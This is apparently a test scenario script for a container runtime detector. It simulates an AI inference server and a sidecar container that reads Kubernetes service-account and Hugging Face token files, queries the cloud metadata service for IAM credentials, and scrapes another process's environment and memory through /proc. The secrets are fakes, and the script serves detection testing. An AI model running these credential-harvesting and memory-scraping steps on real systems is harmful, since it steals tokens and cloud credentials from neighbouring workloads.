# A12 sidecar scrapes the GPU process (environ, maps+mem), reads SA/HF tokens, calls IMDS
mkdir -p "$H/home/.cache/huggingface"; echo hf_fake_token > "$H/home/.cache/huggingface/token"
ctr_run simctr-infer-a12 ctr-infer --mount --uts --ipc -- env HF_TOKEN=hf_fake AWS_SECRET_ACCESS_KEY=fake \
  timeout 30 python3 "$H/fake_infer.py" --port 8001 --model "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors" & J=$!
sleep 2; VP=$(host_pid_of 'fake_infer.py --port 8001'); nvml_mock_add "$VP"
ctr_run simctr-sidecar-a12 ctr-infer --mount --uts --ipc --propagation private -- sh -c '
  mount -t tmpfs tmpfs /run && mkdir -p /run/secrets/kubernetes.io/serviceaccount &&
    echo fake.jwt > /run/secrets/kubernetes.io/serviceaccount/token
  cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null
  cat $0/home/.cache/huggingface/token > /dev/null
  curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/ > /dev/null
  python3 -c "
import sys
pid = sys.argv[1]
env = open(f\"/proc/{pid}/environ\", \"rb\").read()
n = 0
with open(f\"/proc/{pid}/maps\") as m, open(f\"/proc/{pid}/mem\", \"rb\", 0) as mem:
    for line in m:
        addr, perms = line.split()[:2]
        lo, hi = (int(x, 16) for x in addr.split(\"-\"))
        if perms.startswith(\"r\") and hi - lo <= (64 << 20):
            try:
                mem.seek(lo); n += len(mem.read(hi - lo))
            except OSError:
                pass
print(\"environ bytes\", len(env), \"mem bytes\", n)
" "$1"; true' "$H" "$VP"
kill "$VP" 2>/dev/null; wait "$J"
